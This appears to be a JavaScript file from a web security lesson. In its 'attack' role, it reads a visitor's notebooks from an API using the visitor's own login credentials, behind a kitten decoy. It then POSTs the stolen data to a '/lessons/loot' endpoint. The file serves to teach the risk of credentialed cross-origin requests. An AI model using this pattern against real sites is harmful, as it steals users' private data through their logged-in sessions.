'use strict'

// The front end shows the notebooks. The attacker's page reads them in the same way,
// and sends them home.
const { role, api, lab, token } = document.body.dataset
const query = new URLSearchParams(location.search)
const run = query.get('run')
const mode = query.get('mode')

async function work() {
  const headers = role === 'front' && query.has('bearer') ? { Authorization: 'Bearer ' + token } : {}
  const url = `${api}/api/notebooks?run=${encodeURIComponent(run)}&mode=${mode}`
  let reply
  try {
    reply = await fetch(url, { credentials: mode, headers })
  } catch {
    document.getElementById('says').textContent = role === 'front' ? 'Sorry, your notebooks could not be loaded.' : 'Look at this kitten!'
    return { ok: false }
  }
  const body = await reply.text()
  if (!reply.ok) {
    document.getElementById('says').textContent = role === 'front' ? `Sorry, you are not logged in (${reply.status}).` : 'Look at this kitten!'
    return { ok: false, status: reply.status }
  }
  if (role === 'attack') await fetch(`/lessons/loot?run=${encodeURIComponent(run)}`, { method: 'POST', mode: 'no-cors', body })
  document.getElementById('says').textContent = role === 'front' ? 'Your notebooks:' : 'Thank you! I have just read your notebooks:'
  for (const n of JSON.parse(body)) {
    const li = document.createElement('li')
    li.textContent = n.name
    document.getElementById('list').append(li)
  }
  return { ok: true, status: reply.status, bytes: body.length }
}

work().catch(() => ({ ok: false })).then(done => parent.postMessage(done, lab))
